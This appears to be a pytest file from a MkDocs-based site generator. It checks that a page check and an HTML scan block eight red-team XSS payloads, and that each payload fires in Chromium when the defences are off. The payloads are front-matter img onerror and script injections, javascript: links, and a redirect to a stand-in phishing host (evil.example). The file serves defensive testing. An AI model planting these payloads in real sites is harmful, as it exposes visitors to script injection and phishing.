"""The second red team's page payloads (red-team-2.md #1-#4, #6-#9), through both doors and in Chromium.

Each payload is a whole hand-written page. Three builds of one project that holds
them all show where each is stopped:

* as shipped, the page check refuses every page, so neither ``briefing build``
  nor plain ``mkdocs build`` publishes anything (site/ is never made);
* with the page check switched off, the scan of the built HTML refuses every
  page, through ``briefing build`` and through ``mkdocs build`` alike;
* with the check, the scan and the Content-Security-Policy all off, Chromium
  shows each payload at work (its dialog fires, or it asks another host), so
  the payloads are real and the two lines above are what stops them.
"""

from __future__ import annotations

import re
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser_support import serve
from conftest import ROOT, site_project
from test_scan_browser import Payload, _shown, browser, visit  # noqa: F401 - browser is a fixture

from generator.config import read_site_config
from generator.errors import BuildError, ContentError
from generator.output.build import build_site
from generator.project import find_project

REDIRECT = (
    '<script>window.location.replace(["{url}",window.location.search,window.location.hash].join(""))'
    "</script>"
)

HOST = "127.0.0.1"
"""What ``alert(document.domain)`` shows on the test server (a quoted word would end a Markdown link's URL)."""

PAGES = {
    # 1: PyYAML refuses an impossible date, MkDocs renders the block, the comment becomes a heading
    "fm-img": (
        "---\ntitle: About us\ndescription: 2025-02-30\n# <img src=x onerror=alert(document.domain)>\n---\n\n# About us\n",
        Payload("", "event-handler attribute onerror=", dialog=HOST),
    ),
    # 2: the same, a raw </article> and Material's redirect script with a javascript: URL
    "fm-redirect-js": (
        "---\ntitle: Evil\ndescription: 2025-02-30\n# </article>"
        + REDIRECT.format(url="javascript:alert('fm-redirect-js')//")
        + "\n---\n",
        Payload("", "<script> inside the page content", dialog="fm-redirect-js"),
    ),
    # 3: the redirect to another host
    "fm-redirect-host": (
        "---\ntitle: Evil\ndescription: 2025-02-30\n# </article>"
        + REDIRECT.format(url="https://evil.example/phish?")
        + "\n---\n",
        Payload("", "<script> inside the page content", request="https://evil.example/phish"),
    ),
    # 4: 'description: =', which PyYAML cannot construct
    "fm-eq": (
        "---\ntitle: Evil\ndescription: =\n# </article>"
        + REDIRECT.format(url="javascript:alert('fm-eq')//")
        + "\n---\n",
        Payload("", "<script> inside the page content", dialog="fm-eq"),
    ),
    # 6-9: link forms the check's patterns did not see
    "multiline-link": (
        "# Evil\n\n[click\nhere](javascript:alert(document.domain))\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "nested-brackets": (
        "# Evil\n\n[a [b] c](javascript:alert(document.domain))\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "ref-in-quote": (
        "# Evil\n\n> [x]: javascript:alert(document.domain)\n\n[go][x]\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
    "ref-in-list": (
        "# Evil\n\n- item\n\n    [x]: javascript:alert(document.domain)\n\n[go][x]\n",
        Payload("", "javascript: URL", dialog=HOST, click="article a[href^=javascript]"),
    ),
}


def payload_project(dest: Path) -> Path:
    root = site_project(dest, ROOT)
    for name, (text, _) in PAGES.items():
        (root / "content" / "pages" / f"{name}.md").write_text(text, encoding="utf-8")
    return root


def mkdocs_build(root: Path) -> None:
    from mkdocs.__main__ import cli as mkdocs_cli

    mkdocs_cli.main(["build", "-f", str(root / "mkdocs.yml")], standalone_mode=False)


def by_page(message: str) -> dict[str, list[str]]:
    """The scan's findings in a failed build's message, by page name."""
    found: dict[str, list[str]] = {}
    for m in re.finditer(r"site/pages/([a-z0-9-]+)/index\.html: (.*)", message):
        found.setdefault(m[1], []).append(m[2])
    return found


def test_as_shipped_neither_door_publishes_a_payload(tmp_path):
    from mkdocs.exceptions import Abort

    root = payload_project(tmp_path)
    with pytest.raises(ContentError) as info:
        build_site(find_project(root))
    refused = {Path(d.path).stem for d in info.value.diagnostics}
    assert refused == set(PAGES)
    with pytest.raises(Abort, match="content error"):
        mkdocs_build(root)
    assert not (root / "site").exists()


@pytest.fixture(scope="module")
def unchecked(tmp_path_factory):
    root = payload_project(tmp_path_factory.mktemp("unchecked"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("generator.check.content.check_page", lambda *args: None)
        yield root


def test_without_the_check_briefing_build_s_scan_refuses_every_payload(unchecked):
    with pytest.raises(BuildError) as info:
        build_site(find_project(unchecked))
    found = by_page(str(info.value))
    for name, (_, payload) in PAGES.items():
        assert any(w.startswith(payload.finding) for w in found.get(name, [])), (name, found)
    assert not (unchecked / "site").exists()


def test_without_the_check_mkdocs_build_s_scan_refuses_every_payload(unchecked):
    from mkdocs.exceptions import Abort

    with pytest.raises(Abort) as info:
        mkdocs_build(unchecked)
    found = by_page(str(info.value))
    for name, (_, payload) in PAGES.items():
        assert any(w.startswith(payload.finding) for w in found.get(name, [])), (name, found)
    assert not (unchecked / "site").exists()
    assert not list(unchecked.glob(".site.new-*"))


_POLICY = re.compile(r'<meta http-equiv="Content-Security-Policy"[^>]*>')


@pytest.fixture(scope="module")
def defenceless(tmp_path_factory) -> Path:
    root = payload_project(tmp_path_factory.mktemp("defenceless"))
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr("generator.check.content.check_page", lambda *args: None)
        patch.setattr("generator.output.build.scan_site", lambda site, theme, scanned: [])
        build_site(find_project(root))
    for page in (root / "site").rglob("*.html"):
        page.write_text(
            _POLICY.sub("", page.read_text(encoding="utf-8"), count=1), encoding="utf-8"
        )
    return root


@pytest.fixture(scope="module")
def served(defenceless, browser):  # noqa: F811 - the imported fixture
    prefix = urlsplit(read_site_config(defenceless).site_url).path or "/"
    with serve(defenceless / "site", prefix) as base:
        yield base


@pytest.mark.parametrize("name", PAGES)
def test_with_every_defence_off_the_payload_works_in_chromium(browser, served, name):  # noqa: F811
    payload = PAGES[name][1]
    seen = visit(browser, f"{served}pages/{name}/", payload)
    assert _shown(seen, payload), (
        f"{name}: dialogs {seen.dialogs}, off-site requests {seen.requests}"
    )


DIRTY_BUILD = """
import sys
import generator.check.content as content
from mkdocs.__main__ import cli
from mkdocs.exceptions import Abort

content.check_page = lambda *args: None
try:
    cli.main(["build", "--dirty", "-f", sys.argv[1]], standalone_mode=False)
except Abort as exc:
    print(exc)
    sys.exit(1)
"""


def test_without_the_check_mkdocs_build_dirty_fails_on_its_scan(unchecked):
    """``--dirty`` builds into site_dir itself: nothing to keep aside, but the build (and a gh-deploy) fails.
    In a process of its own: a dirty build leaves state in the theme's plugins that later builds here would see."""
    import subprocess
    import sys

    run = subprocess.run(
        [sys.executable, "-c", DIRTY_BUILD, str(unchecked / "mkdocs.yml")],
        capture_output=True,
        text=True,
        cwd=unchecked,
    )
    assert run.returncode == 1, run.stderr
    assert run.stdout.startswith(
        "the built site holds markup that no template put there; site/ was built in place (--dirty) and "
        "holds it; build again without --dirty:\n  site/"
    ), run.stdout + run.stderr
    assert set(by_page(run.stdout)) == set(PAGES)
